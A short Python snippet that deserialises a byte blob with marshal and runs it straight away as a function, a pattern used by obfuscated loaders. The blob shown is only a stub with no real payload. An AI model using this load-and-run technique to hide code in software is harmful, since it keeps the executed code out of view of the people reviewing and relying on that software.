import marshal
import types

BLOB = b"c\x00\x00\x00\x00"

types.FunctionType(marshal.loads(BLOB), globals())()
